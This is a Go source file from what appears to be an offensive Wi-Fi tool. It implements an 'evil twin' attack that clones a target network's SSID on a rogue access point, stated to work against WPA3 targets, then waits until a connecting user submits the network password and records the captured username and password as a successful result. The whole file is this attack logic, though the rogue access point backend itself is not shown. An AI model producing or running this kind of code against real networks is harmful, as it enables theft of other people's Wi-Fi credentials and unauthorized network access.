package attack

import (
	"context"
	"time"

	"github.com/rs/zerolog"
	"github.com/rs/zerolog/log"

	"wraith/internal/models"
	"wraith/internal/orcherr"
)

// EvilTwinAttack clones the target's SSID on a rogue access point and waits
// for a user to submit the network password. It does not depend on the real
// network's encryption, so WPA3 targets are eligible.
type EvilTwinAttack struct {
	capability
	backend RogueAPBackend
	logger  zerolog.Logger
}

// NewEvilTwin creates the rogue access point strategy
func NewEvilTwin(backend RogueAPBackend) *EvilTwinAttack {
	return &EvilTwinAttack{
		capability: capability{
			kind:         models.AttackEvilTwin,
			supportsWPA3: true,
			timeout:      5 * time.Minute,
		},
		backend: backend,
		logger:  log.With().Str("component", "attack").Str("attack", string(models.AttackEvilTwin)).Logger(),
	}
}

// CanAttack additionally rejects hidden networks, which have no SSID to clone
func (a *EvilTwinAttack) CanAttack(target *models.Target) (bool, string) {
	if ok, reason := a.capability.CanAttack(target); !ok {
		return ok, reason
	}
	if target.Name == "" {
		return false, ReasonHiddenSSID
	}
	return true, ""
}

// Execute runs the rogue access point until a credential arrives or the timeout expires
func (a *EvilTwinAttack) Execute(ctx context.Context, target *models.Target, timeout time.Duration) *models.AttackResult {
	const op = "attack.evil_twin"

	result := models.NewAttackResult(a.kind, target.ID)
	result.Start()

	if a.backend == nil {
		_ = result.Complete(models.ResultFailed, "", orcherr.E(op, orcherr.TransientFailure, errNoBackend))
		return result
	}

	timeout = a.effectiveTimeout(timeout)
	attemptCtx, cancel := context.WithTimeout(ctx, timeout)
	defer cancel()

	a.logger.Info().Str("target", target.ID).Str("ssid", target.Name).Dur("timeout", timeout).Msg("Starting rogue AP")

	_, err := await(attemptCtx, func(ctx context.Context) (struct{}, error) {
		return struct{}{}, a.backend.Start(ctx, target.Name, target.Channel)
	})
	if err != nil {
		finish(ctx, result, op, err)
		return result
	}
	defer func() {
		if err := a.backend.Stop(); err != nil {
			a.logger.Warn().Err(err).Msg("Failed to stop rogue AP")
		}
	}()

	cred, err := await(attemptCtx, a.backend.WaitCredential)
	switch {
	case err != nil:
		finish(ctx, result, op, err)
	case cred == nil || cred.Password == "":
		_ = result.Complete(models.ResultFailed, "", orcherr.E(op, orcherr.TransientFailure, errNoCapture))
	default:
		if cred.Username != "" {
			result.SetDetail("username", cred.Username)
		}
		_ = result.Complete(models.ResultSuccess, cred.Password, nil)
	}

	a.logger.Info().
		Str("target", target.ID).
		Str("status", string(result.Status)).
		Dur("duration", result.Duration()).
		Msg("Evil twin attack finished")

	return result
}
